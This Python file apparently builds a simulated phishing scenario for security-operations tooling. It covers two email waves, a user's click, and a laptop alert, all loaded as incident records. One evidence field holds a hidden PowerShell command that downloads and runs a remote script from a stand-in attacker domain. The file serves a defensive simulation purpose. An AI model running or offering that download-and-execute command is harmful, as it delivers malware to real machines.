"""The Company XYZ incidents: the campaign's two waves, Bob's click and his laptop's alert."""

from __future__ import annotations

from xops_provider.models.timestamps import GraphTime
from xops_provider.simulator.scenarios import builders as b
from xops_provider.simulator.scenarios.company_xyz.facts import (
    CAMPAIGN_DOMAIN,
    CAMPAIGN_SENDER,
    CAMPAIGN_SENDER_IP,
    CAMPAIGN_SENDER_NAME,
    CAMPAIGN_SUBJECT,
    CAMPAIGN_URL,
    CLICK_INCIDENT_ID,
    CLICKER,
    CLICKER_IP,
    COMPANY_DOMAIN,
    ENDPOINT_ALERT_ID,
    ENDPOINT_DEVICE,
    ENDPOINT_DEVICE_ID,
    ENDPOINT_INCIDENT_ID,
    MAIN_INCIDENT_ID,
    REPORTER,
    USERS,
    WAVE1_MESSAGE_IDS,
    WAVE1_RECIPIENTS,
    WAVE2_INCIDENT_ID,
    WAVE2_MESSAGE_IDS,
    WAVE2_RECIPIENTS,
    WAVE2_SENDER_IP,
    WAVE2_SUBJECT,
    WAVE2_URL,
    moment,
)
from xops_provider.simulator.scenarios.company_xyz.telemetry import build_telemetry
from xops_provider.simulator.store import IncidentStore
from xops_provider.simulator.telemetry import Telemetry


def build(store: IncidentStore, *, dice: b.Dice, now: GraphTime, telemetry: Telemetry | None = None) -> None:
    """Load the scenario into ``store`` (and ``telemetry``), with times relative to ``now``.

    :param store: the empty store to fill.
    :param dice: the seeded randomness (ids and hashes).
    :param now: the reference time; everything happens in the two and a half days before it.
    :param telemetry: hunting tables and Cato feed to fill, when given.
    """
    tenant = store.tenant_id
    people = {upn: b.person(dice, name, upn) for upn, name in USERS.items()}

    def at(hours: float, *, digits: int = 7) -> str:
        return moment(now, hours, digits=digits)

    def message(
        recipient: str, *, subject: str, link: str, sender_ip: str, hours: float, message_id: str
    ) -> b.Message:
        dice.uuid()  # drawn as before the ids were fixed, so the rest of the content is unchanged
        return b.Message(
            network_message_id=message_id,
            internet_message_id=f"<{dice.hex(32).upper()}@PAYR0LLMAIL01.{CAMPAIGN_DOMAIN}>",
            sender=CAMPAIGN_SENDER,
            sender_name=CAMPAIGN_SENDER_NAME,
            sender_ip=sender_ip,
            recipient=people[recipient],
            subject=subject,
            urls=(link,),
            received=at(hours),
        )

    # Wave 1: delivered at +0h, removed by ZAP at +0.6h.
    wave1 = [
        message(
            r,
            subject=CAMPAIGN_SUBJECT,
            link=CAMPAIGN_URL,
            sender_ip=CAMPAIGN_SENDER_IP,
            hours=0.01 * i,
            message_id=WAVE1_MESSAGE_IDS[r],
        )
        for i, r in enumerate(WAVE1_RECIPIENTS)
    ]
    seen = at(0.62)
    main_evidence = [b.analyzed_message(m, seen) for m in wave1]
    main_evidence += [b.mailbox(m.recipient, seen) for m in wave1]
    main_evidence += [
        b.mail_cluster(wave1, seen),
        b.url(CAMPAIGN_URL, seen),
        b.ip(CAMPAIGN_SENDER_IP, seen, country="NL"),
    ]
    provider = dice.uuid()
    zap_alert = b.alert(
        alert_id="fa" + provider,
        provider_alert_id=provider,
        incident_id=MAIN_INCIDENT_ID,
        tenant_id=tenant,
        title="Email messages containing malicious URL removed after delivery",
        description="Emails with malicious URL that were delivered and later removed -V1.0.0.3",
        severity="medium",
        times=b.AlertTimes(created=at(0.6), updated=at(0.65), first_activity=at(0), last_activity=at(0.05)),
        evidence=main_evidence,
        detector_id="d7c8e4a1-3b2f-4e5d-9c6b-0a1f2e3d4c5b",
        threat_display_name="Phish",
        investigation_state="successfullyRemediated",
    )

    # Bob clicked at +0.5h, before ZAP: its own incident, merged into the main one at +2h.
    bob_copy = wave1[WAVE1_RECIPIENTS.index(CLICKER)]
    click_seen = at(0.55)
    provider = dice.uuid()
    click_alert = b.alert(
        alert_id="fa" + provider,
        provider_alert_id=provider,
        incident_id=MAIN_INCIDENT_ID,
        tenant_id=tenant,
        title="A potentially malicious URL click was detected",
        description="We have detected that one of your users has recently clicked on a link that was found "
        "to be malicious. -V1.0.0.5",
        severity="high",
        times=b.AlertTimes(created=at(0.52), updated=at(2.0), first_activity=at(0.5), last_activity=at(0.5)),
        evidence=[
            b.url(CAMPAIGN_URL, click_seen),
            b.user(people[CLICKER], click_seen, roles=("compromised",)),
            b.mailbox(people[CLICKER], click_seen),
            b.ip(CLICKER_IP, click_seen, country="US", verdict="unknown"),
            b.analyzed_message(bob_copy, click_seen, remediation="none"),
        ],
        detector_id="a5b6c7d8-e9f0-4a1b-8c2d-3e4f5a6b7c8d",
        category="InitialAccess",
        mitre_techniques=("T1566.002", "T1204.001"),
        trailing_space_url=True,
    )
    store.put(
        b.incident(
            incident_id=MAIN_INCIDENT_ID,
            tenant_id=tenant,
            display_name=(
                "Email messages containing malicious URL removed after delivery involving multiple users"
            ),
            severity="high",
            created=at(0.6),
            updated=at(2.0),
            status="active",
            description="",
            system_tags=("Phishing campaign",),
            priority_score=71,
        ),
        [zap_alert, click_alert],
    )
    store.put(
        b.incident(
            incident_id=CLICK_INCIDENT_ID,
            tenant_id=tenant,
            display_name="A potentially malicious URL click was detected",
            severity="High",  # PascalCase, as some pipelines write it
            created=at(0.53, digits=2),
            updated=at(2.0, digits=3),
            status="redirected",
            redirect_incident_id=MAIN_INCIDENT_ID,
            assigned_to="",
            determination="",
        ),
        [],
    )

    # Bob's laptop at +0.8h: Defender for Endpoint, not MDO.
    mde_seen = at(0.85)
    endpoint_alert = b.alert(
        alert_id=f"da{dice.random.randrange(10**17, 10**18)}_{-dice.random.randrange(10**8, 2 * 10**9)}",
        provider_alert_id="",
        incident_id=ENDPOINT_INCIDENT_ID,
        tenant_id=tenant,
        title="Suspicious PowerShell command line",
        description="A suspicious PowerShell activity was observed on the machine. This behavior may "
        "indicate "
        "that PowerShell was used during installation, exploration, or in some cases in lateral movement "
        "activities.",
        severity="medium",
        times=b.AlertTimes(created=at(0.84), updated=at(0.9), first_activity=at(0.8), last_activity=at(0.81)),
        evidence=[
            b.device(dice, ENDPOINT_DEVICE, mde_seen, owner=people[CLICKER], ip_address=CLICKER_IP),
            b.process(
                'powershell.exe -nop -w hidden -c "iwr https://payroll-docs-review.com/p.ps1 | iex"',
                "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
                mde_seen,
                owner=people[CLICKER],
            ),
            b.user(people[CLICKER], mde_seen),
        ],
        service_source=b.MDE,
        detection_source="microsoftDefenderForEndpoint",
        product_name="Microsoft Defender for Endpoint",
        category="Execution",
        mitre_techniques=("T1059.001",),
        detector_id="7f1e2d3c-4b5a-4968-8776-a5b4c3d2e1f0",
    )
    endpoint_alert["id"] = endpoint_alert["providerAlertId"] = ENDPOINT_ALERT_ID
    endpoint_alert["alertWebUrl"] = f"{b.PORTAL}/alerts/{ENDPOINT_ALERT_ID}?tid={tenant}"
    endpoint_alert["evidence"][0]["mdeDeviceId"] = ENDPOINT_DEVICE_ID
    store.put(
        b.incident(
            incident_id=ENDPOINT_INCIDENT_ID,
            tenant_id=tenant,
            display_name=f"Suspicious PowerShell command line on one endpoint ({ENDPOINT_DEVICE})",
            severity="medium",
            created=at(0.84),
            updated=at(0.9),
            status="inProgress",
            assigned_to=f"soc.analyst@{COMPANY_DOMAIN}",
        ),
        [endpoint_alert],
    )

    # Wave 2 at +30h, same sender; Erin reports it at +30.4h.
    wave2 = [
        message(
            r,
            subject=WAVE2_SUBJECT,
            link=WAVE2_URL,
            sender_ip=WAVE2_SENDER_IP,
            hours=30 + 0.01 * i,
            message_id=WAVE2_MESSAGE_IDS[r],
        )
        for i, r in enumerate(WAVE2_RECIPIENTS)
    ]
    seen2 = at(30.5)
    wave2_evidence = [b.analyzed_message(m, seen2, blank_language=True) for m in wave2]
    wave2_evidence += [b.mailbox(m.recipient, seen2) for m in wave2]
    wave2_evidence += [
        b.mail_cluster(wave2, seen2, cluster_by="Subject;P2SenderDomain;AntispamDirection;ContentType"),
        b.url(WAVE2_URL, seen2),
        b.ip(WAVE2_SENDER_IP, seen2, country="NL"),
    ]
    provider = dice.uuid()
    campaign_alert = b.alert(
        alert_id="fa" + provider,
        provider_alert_id=provider,
        incident_id=WAVE2_INCIDENT_ID,
        tenant_id=tenant,
        title="Email messages from a campaign removed after delivery",
        description="Emails from a campaign that were delivered and later removed -V1.0.0.2",
        severity="medium",
        times=b.AlertTimes(
            created=at(30.5), updated=at(30.6), first_activity=at(30), last_activity=at(30.05)
        ),
        evidence=wave2_evidence,
        detector_id="c1d2e3f4-a5b6-4c7d-8e9f-0a1b2c3d4e5f",
        threat_display_name="Phish",
        status="inProgress",
    )
    reporter_copy = wave2[WAVE2_RECIPIENTS.index(REPORTER)]
    provider = dice.uuid()
    reported_alert = b.alert(
        alert_id="fa" + provider,
        provider_alert_id=provider,
        incident_id=WAVE2_INCIDENT_ID,
        tenant_id=tenant,
        title="Email reported by user as malware or phish",
        description="This alert is triggered when any email message is reported as malware or phish by users "
        "-V1.0.0.3",
        severity="informational",
        times=b.AlertTimes(
            created=at(30.4), updated=at(30.6), first_activity=at(30.4), last_activity=at(30.4)
        ),
        evidence=[
            b.analyzed_message(reporter_copy, at(30.41), verdict="suspicious", remediation="none"),
            b.mailbox(people[REPORTER], at(30.41)),
            b.user(people[REPORTER], at(30.41), verdict="unknown"),
        ],
        detector_id="5a6b7c8d-9e0f-4a1b-2c3d-4e5f6a7b8c9d",
        category="InitialAccess",
        mitre_techniques=(),
    )
    store.put(
        b.incident(
            incident_id=WAVE2_INCIDENT_ID,
            tenant_id=tenant,
            display_name="Email messages from a campaign removed after delivery involving multiple users",
            severity="Medium",
            classification="Unknown",
            created=at(30.4),
            updated=at(30.6),
            status="Active",
            custom_tags=("Payroll phish",),
        ),
        [campaign_alert, reported_alert],
    )
    if telemetry is not None:
        build_telemetry(telemetry, now=now, people=people)
